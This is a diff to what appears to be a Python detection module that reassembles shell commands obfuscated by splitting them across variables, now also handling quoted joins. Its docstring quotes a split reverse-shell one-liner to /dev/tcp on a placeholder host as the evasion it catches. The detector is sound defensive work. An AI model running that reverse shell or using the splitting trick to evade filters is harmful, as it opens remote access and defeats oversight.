@@ -5,7 +5,8 @@ is cut into literals kept in variables and put back together where it runs: `a=b
 c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`. No pattern reads the pieces; the shell joins
 them. The line is read again with every variable it assigned a literal to replaced by that
 literal (the assignments themselves dropped), and what that spelled-out line does is what the
-command does. Only a line that glues two variables together (`$a$b`, `${x}${y}`) is read so:
+command does. Only a line that glues two variables together (`$a$b`, `${x}${y}`, `"$a""$b"`, the
+quotes then dropped where they protect nothing) is read so:
 an ordinary script names its settings one at a time (`DEST=/srv/www; rsync -a site/ $DEST`),
 and spelled out it reads exactly as it did.
 
@@ -19,28 +20,32 @@ import re
 
 from redline.redlines.capabilities import Capability, Hit
 
-_GLUED = re.compile(r"\$\{?[A-Za-z_]\w*\}?\$\{?[A-Za-z_]")
-"""Two variables expanded side by side: the shell joins their values into one word."""
+_GLUED = re.compile(r"\$\{?[A-Za-z_]\w*\}?\"{0,2}\$\{?[A-Za-z_]")
+"""Two variables expanded side by side, bare or quoted (`$a$b`, `"$a""$b"`): the shell joins
+their values into one word."""
 _ASSIGNMENT = re.compile(
     r"""(?:^|(?<=[;&|\n]))\s*([A-Za-z_]\w*)=('[^'\n]*'|"[^"$`\\\n]*"|[^\s;&|'"`$()<>]*)"""
     r"""\s*(?:;|&&|\n|$)"""
 )
 """A variable given a literal as a statement of its own (`a=ba;`, `d="p/1.2.3.4/443" &&`)."""
-_MAX_ASSIGNMENTS = 40
-"""How many literal assignments a line may make to be spelled out (a longer one is a script)."""
+_MAX_LENGTH = 20_000
+"""The longest line spelled out (the reading is linear in the line; any number of assignments,
+dummies among them, is read)."""
+_JOINED_QUOTES = re.compile(r'(?<=[^\s"])""(?=[^\s"])')
+"""Two quoted words side by side (`"ba""sh"`): one word to the shell."""
+_PLAIN_QUOTED = re.compile(r'"([^"\s$`\\;&|<>()*?]*)"')
+"""A quoted word with nothing the quotes protect: the same word bare."""
 
 
 def spelled_out(action: str) -> str | None:
     """`action` with the literals its variables were assigned put where they are expanded and
     the assignments dropped, when it glues two variables together; otherwise None."""
-    if "$" not in action or _GLUED.search(action) is None:
+    if "$" not in action or len(action) > _MAX_LENGTH or _GLUED.search(action) is None:
         return None
     values: dict[str, str] = {}
     kept: list[str] = []
     cursor = 0
-    for count, match in enumerate(_ASSIGNMENT.finditer(action)):
-        if count >= _MAX_ASSIGNMENTS:
-            return None
+    for match in _ASSIGNMENT.finditer(action):
         value = match.group(2)
         if value[:1] in ("'", '"'):
             value = value[1:-1]
@@ -57,7 +62,9 @@ def spelled_out(action: str) -> str | None:
         return values.get(word, name.group(0))
 
     spelled = re.sub(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)", value_of, rest)
-    return spelled if spelled != rest else None
+    if spelled == rest:
+        return None
+    return _PLAIN_QUOTED.sub(r"\1", _JOINED_QUOTES.sub("", spelled))
 
 
 def spliced_hits(action: str, found: set[Capability]) -> list[Hit]:
